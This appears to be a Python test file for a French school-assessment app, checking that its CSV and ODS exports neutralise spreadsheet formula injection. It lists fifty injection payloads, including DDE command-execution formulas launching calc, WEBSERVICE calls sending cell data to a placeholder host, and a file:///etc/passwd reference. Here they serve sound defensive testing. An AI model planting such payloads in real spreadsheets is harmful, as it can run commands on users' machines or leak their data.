"""The answers as CSV and ODS, as LibreOffice and Python read them back."""

import csv
import datetime
import io
import re
import subprocess
import xml.etree.ElementTree as ElementTree
from collections import Counter
from html import escape
from itertools import cycle

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from libreoffice import ENGLISH_CSV, FRENCH_CSV, Office, ReadCell, is_printed, legible, printed, read_sheets
from odf_reader import sound_parts
from paliers_desktop.core.assessment import Assessment, Etat, MotifCode
from paliers_desktop.core.report.answer_sheets import AnswerSheet, AnswerSheets, answer_sheets
from paliers_desktop.output.cell_text import neutralised, valid
from paliers_desktop.output.odf.ods import render_ods
from paliers_desktop.output.tables_csv import render_csv
from pdf_samples import assessment_of
from report_samples import COLLEGE, ECOLE, all_answered, catalogue
from strategies import situations

GRILLE = catalogue().for_type("college").grille
ECOLES = catalogue().for_type("ecole_primaire").grille
DAY = datetime.date(2027, 3, 12)

INJECTIONS = (
    "=1+1", "=1+1=2", "+1+1", "-1+1", "@SUM(1;1)", "@SUM(A1)", "=SUM(A1:A9)", "=SOMME(1;1)", "=A1", "+A1", "-A1",
    "=cmd|'/C calc'!A0", "=cmd|' /C notepad'!'A1'", "@cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"a\")", "=HYPERLINK(\"http://example.invalid\";\"Lire\")",
    "=LIEN_HYPERTEXTE(\"http://example.invalid\";\"Lire\")", "=WEBSERVICE(\"http://example.invalid/\"&A1)",
    "=IMPORTXML(\"http://example.invalid\";\"//a\")", "=IMAGE(\"http://example.invalid/a.png\")",
    "='file:///etc/passwd'#$passwd.A1", "=INDIRECT(\"A1\")", "=RAND()", "=TODAY()", "=NOW()", "=CHAR(61)&\"1+1\"",
    " =1+1", "  +1", "\t=1+1", "\t1+1", "\r=1+1", "\n=1+1", "\n-1",
    "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1;1)", "﹦1+1", "﹢1", "﹣1", "﹫A1", "−1", "=\"a\"\";=1+1\"", "=1+1;=2+2",
)  # fmt: skip
MAY_BE_CUT = 1600
"""Characters: a text may be cut by the end of a page, but these, the longest, are told apart by their number only."""
HOSTILE = (
    '« œ É – & < » ]]> "guillemets" ; point-virgule',
    "Première ligne\nDeuxième  ligne\n\n=1+1 en quatrième",
    "🎉 👩🏽‍🏫 مرحبا שלום 日本語",
    "Interdits : \x00 \x0b \x1f \ufffe \U0001ffff.",
    "mot " * 500,
    "1e5",
    "007",
    "12/03/2027",
)


def with_comments(grille, comments, assessment: Assessment) -> Assessment:
    for key, comment in zip(grille.reading_order, comments, strict=False):
        assessment = assessment.with_answer(key, commentaire=comment)
    return assessment


def mixed(grille=GRILLE, etablissement=COLLEGE) -> Assessment:
    """Each answer in turn, with motifs, marks and échéances."""
    assessment = all_answered(grille, None, etablissement)
    for place, (key, etat) in enumerate(zip(grille.reading_order, cycle([*Etat, None]))):
        motif = MotifCode.AUTRE if etat is Etat.SANS_OBJET else None
        assessment = assessment.with_answer(
            key,
            etat=etat,
            motif_code=motif,
            motif_texte="Assuré par la commune" if motif else "",
            a_verifier=place % 7 == 0,
            aupres_de="gestionnaire" if place % 7 == 0 else "",
            echeance=DAY if etat is Etat.EN_COURS else None,
            commentaire="À l’œuvre" if place % 3 == 0 else "",
        )
    return assessment


def injected_everywhere() -> Assessment:
    """A formula in every field that a person fills."""
    assessment = replace(mixed(ECOLES, ECOLE), etablissement=replace(ECOLE, nom=INJECTIONS[0], commune=INJECTIONS[1]))
    for key, text in zip(ECOLES.reading_order, cycle(INJECTIONS)):
        assessment = assessment.with_answer(
            key,
            etat=Etat.SANS_OBJET,
            motif_code=MotifCode.AUTRE,
            motif_texte=text,
            a_verifier=True,
            aupres_de=text,
            commentaire=text,
        )
    return assessment


CASES: dict[str, AnswerSheets] = {
    "vide": answer_sheets(GRILLE, all_answered(GRILLE, None), None),
    "plein": answer_sheets(GRILLE, mixed(), DAY),
    "ecole": answer_sheets(ECOLES, mixed(ECOLES, ECOLE), DAY, with_texts=True),
    "sans-objet": answer_sheets(GRILLE, all_answered(GRILLE, Etat.SANS_OBJET), DAY, with_texts=True),
    "formules": answer_sheets(GRILLE, with_comments(GRILLE, INJECTIONS, mixed()), DAY, with_texts=True),
    "hostiles": answer_sheets(GRILLE, with_comments(GRILLE, HOSTILE, mixed()), DAY, with_texts=True),
    "longs": answer_sheets(GRILLE, assessment_of(GRILLE, "collège", "textes longs"), DAY, with_texts=True),
    "longs-ecole": answer_sheets(ECOLES, assessment_of(ECOLES, "école", "textes longs"), DAY, with_texts=True),
    "partout": answer_sheets(ECOLES, injected_everywhere(), DAY, with_texts=True),
    "nom": answer_sheets(GRILLE, replace(mixed(), etablissement=replace(COLLEGE, nom="=1+1 & <" * 30)), DAY),
}  # fmt: skip


class Read:
    """What LibreOffice made of each case, in three runs for all of them."""

    def __init__(self, folder) -> None:
        office = Office(folder)
        for name, sheets in CASES.items():
            (folder / f"{name}.ods").write_bytes(render_ods(sheets))
            (folder / f"{name}-fr.csv").write_bytes(render_csv(sheets.reponses))
            (folder / f"{name}-en.csv").write_bytes(render_csv(sheets.reponses))
        raw = "\r\n".join(f"1;{text}" for text in INJECTIONS[:2]).encode("utf-8-sig")
        (folder / "nu-fr.csv").write_bytes(raw)
        files = [folder / f"{name}.ods" for name in CASES]
        self.ods = dict(zip(CASES, map(read_sheets, office.convert("fods", *files)), strict=True))
        self.pdf = dict(zip(CASES, office.convert("pdf", *files), strict=True))
        french = [folder / f"{name}-fr.csv" for name in (*CASES, "nu")]
        read = office.convert("fods", *french, infilter=FRENCH_CSV)
        self.csv = {name: self._only(path) for name, path in zip((*CASES, "nu"), read, strict=True)}
        english = [folder / f"{name}-en.csv" for name in CASES]
        read = office.convert("fods", *english, infilter=ENGLISH_CSV)
        self.english = {name: self._only(path) for name, path in zip(CASES, read, strict=True)}

    def _only(self, path) -> list[list[ReadCell]]:
        (rows,) = read_sheets(path).values()
        return rows


@pytest.fixture(scope="module")
def read(tmp_path_factory):
    return Read(tmp_path_factory.mktemp("tableur"))


def expected(value) -> ReadCell:
    """A value of the report as a spreadsheet holds it."""
    if value is None:
        return ReadCell("", "", "")
    if isinstance(value, datetime.date):
        return ReadCell("date", value.isoformat(), "")
    if isinstance(value, int):
        return ReadCell("float", str(value), "")
    return ReadCell("string", valid(neutralised(value)), "")


def filled(rows, width):
    return [[*row, *[ReadCell("", "", "")] * (width - len(row))] for row in rows]


def lines_of(sheet: AnswerSheet):
    return [[expected(value) for value in line] for line in (sheet.headers, *sheet.lines)]


@pytest.mark.parametrize("case", CASES)
def test_the_spreadsheet_holds_what_the_report_says(read, case):
    sheets = CASES[case]
    assert list(read.ods[case]) == ["Réponses", "Paliers"]
    for sheet in (sheets.reponses, sheets.paliers):
        rows = filled(read.ods[case][sheet.titre], len(sheet.headers))
        assert rows == lines_of(sheet)


@pytest.mark.parametrize("case", CASES)
def test_french_calc_reads_in_the_csv_what_the_report_says(read, case):
    sheet = CASES[case].reponses
    rows = filled(read.csv[case], len(sheet.headers))
    assert len(rows) == len(sheet.lines) + 1
    for line, row in zip(lines_of(sheet), rows, strict=True):
        for wanted, found in zip(line, row, strict=True):
            assert not found.formula
            if wanted.kind == "string" and found.kind != "string":  # a comment that is only a number or a date
                assert re.fullmatch(r"[\de./]+", wanted.value), wanted
            elif wanted.kind == "string":
                assert squeezed(found.value) == squeezed(wanted.value)
            else:
                assert found == wanted


def squeezed(text: str) -> str:
    """Calc ends a cell at its last word; spaces before line ends are the reader's."""
    return re.sub(r"\s+", " ", text).strip()


def test_fifty_formulas_are_inert_in_both_files_and_both_languages(read):
    assert len(INJECTIONS) == len(set(INJECTIONS)) == 50
    sheet = CASES["formules"].reponses
    assert all(line[-1] for line in sheet.lines[:50])
    for rows in (read.ods["formules"]["Réponses"], read.csv["formules"], read.english["formules"]):
        cells = [row[-1] for row in rows[1:51]]
        assert {cell.kind for cell in cells} == {"string"}
        assert not [cell for row in rows for cell in row if cell.formula]
        assert all(cell.value.lstrip().startswith("'") for cell in cells)


def test_no_field_of_a_person_is_a_formula(read):
    for sheets in (read.ods["partout"].values(), [read.csv["partout"]], [read.english["partout"]]):
        cells = [cell for rows in sheets for row in rows for cell in row]
        assert sum(cell.value.startswith("'=1+1") for cell in cells) > len(ECOLES.reading_order)
        assert not [cell for cell in cells if cell.formula or cell.value.startswith("=")]


def test_a_damaged_file_is_not_repaired_behind_our_back(tmp_path):
    """Or opening without a word would prove nothing."""
    (tmp_path / "abime.ods").write_bytes(render_ods(CASES["plein"])[:-300])
    with pytest.raises(AssertionError, match="source file could not be loaded"):
        Office(tmp_path).convert("pdf", tmp_path / "abime.ods")


@pytest.mark.parametrize("case", CASES)
def test_the_pdf_that_libreoffice_makes_holds_every_cell(read, case):
    """As many times as it is in the tables: a cell that is cut is missed."""
    text = legible(printed(read.pdf[case]))
    sheets = CASES[case]
    values = [value for sheet in (sheets.reponses, sheets.paliers) for line in sheet.lines for value in line]
    wanted = Counter(legible(valid(neutralised(value))) for value in values if isinstance(value, str))
    for words, count in wanted.items():
        assert is_printed(words, text), words
        if len(words) > MAY_BE_CUT:
            assert text.count(words) >= count, words
    for headers in (sheets.reponses.headers, sheets.paliers.headers):
        assert all(legible(header) in text for header in headers)


def test_the_same_reader_computes_what_is_not_neutralised(read):
    """Or the test above would prove nothing."""
    assert [row[1].formula for row in read.csv["nu"]] == ["of:=1+1", "of:=1+1=2"]


def test_neutralising_leaves_ordinary_words_alone():
    for text in ("", "Oui", "CDI = salle 2", "12 mars", "« – »", "l’œuvre", "'", "1-2", "é@x", "– tiret", "• point"):
        assert neutralised(text) == text


@given(st.text())
def test_neutralising_only_ever_adds_one_apostrophe(text):
    done = neutralised(text)
    assert done in (text, f"'{text}")
    assert neutralised(done) == done
    assert done[:1] not in tuple("=+-@\t\r\n")


@given(st.text())
def test_valid_text_is_what_an_xml_file_can_hold(text):
    done = valid(text)
    assert valid(done) == done
    assert ElementTree.fromstring(f"<a>{escape(done)}</a>").text in (done, None)
    if text.isalnum():
        assert done == text


def test_the_csv_is_what_french_excel_opens_right():
    content = render_csv(CASES["plein"].reponses)
    assert content.startswith(b"\xef\xbb\xbf")
    assert b"\n" not in content.replace(b"\r\n", b"")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == [
        "Campagne", "UAI", "Établissement", "Domaine", "Palier", "Numéro", "Critère", "Réponse", "Motif",
        "À vérifier", "Auprès de", "Échéance",
    ]  # fmt: skip
    assert len(rows) == 59
    assert rows[2][4:6] == ["1", "1.2"]
    assert rows[2][7:] == ["En cours", "", "", "", "2027-03-12"]
    assert {row[7] for row in rows[1:]} == {"Oui", "En cours", "Non", "Sans objet", "Sans réponse"}
    assert b';1;"1.2";' in content, "numbers are bare, texts are quoted"


def test_what_people_wrote_is_there_only_if_asked():
    assessment = mixed().with_answer("PIL-01", commentaire="Secret-commentaire", etat=Etat.SANS_OBJET,
                                     motif_code=MotifCode.AUTRE, motif_texte="Secret-motif")  # fmt: skip
    without = answer_sheets(GRILLE, assessment, DAY)
    asked = answer_sheets(GRILLE, assessment, DAY, with_texts=True)
    for render in (
        lambda sheets: render_csv(sheets.reponses),
        lambda sheets: sound_parts(render_ods(sheets))["content.xml"],
    ):
        assert b"Secret" not in render(without)
        assert b"Secret-commentaire" in render(asked)
        assert b"Autre : Secret-motif" in render(asked)


def test_the_second_sheet_tells_the_paliers():
    sheets = answer_sheets(GRILLE, all_answered(GRILLE, Etat.OUI).with_answer("PIL-01", etat=Etat.EN_COURS), DAY)
    assert sheets.paliers.headers == ("Domaine", "Palier", "Avancée", "Il manque", "Mention")
    assert sheets.paliers.lines[0][1:] == (0, "5 sur 6 vers le palier 1", "1 critère pour le palier 1", None)
    assert sheets.paliers.lines[1][1:] == (3, None, None, None)
    assert sheets.paliers.lines[-1][:2] == ("Palier commun", 0)
    assert CASES["sans-objet"].paliers.lines[0] == (GRILLE.domaines[0].titre, "Sans objet", None, None, None)
    assert CASES["vide"].paliers.lines[0][4] == "provisoire"


def test_same_state_same_bytes_without_clock_nor_person():
    sheets = CASES["plein"]
    content = render_ods(sheets)
    assert content == render_ods(sheets)
    assert content != render_ods(CASES["vide"])
    parts = sound_parts(content)
    assert set(parts) == {"mimetype", "content.xml", "styles.xml", "meta.xml", "settings.xml", "META-INF/manifest.xml"}
    assert b"2027-03-12" in parts["meta.xml"]
    assert b"date" not in sound_parts(render_ods(CASES["vide"]))["meta.xml"]


def test_the_header_line_is_repeated_on_each_printed_page(read):
    command = ["pdftotext", "-layout", read.pdf["hostiles"], "-"]
    text = subprocess.run(command, capture_output=True, text=True, check=True).stdout
    pages = text.split("\f")[:-1]
    assert len(pages) > 2
    assert all(re.search(r"Campagne +UAI", page) for page in pages[:-1])
    assert all("provisoire" in page and "État au 12 mars 2027" in page for page in pages)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(situations(), st.booleans())
def test_no_text_nor_shape_of_grid_crashes_the_tables(situation, with_texts):
    sheets = answer_sheets(*situation, DAY, with_texts=with_texts)
    assert all(len(line) == len(sheet.headers) for sheet in (sheets.reponses, sheets.paliers) for line in sheet.lines)
    assert render_ods(sheets).startswith(b"PK")
    assert render_csv(sheets.reponses)
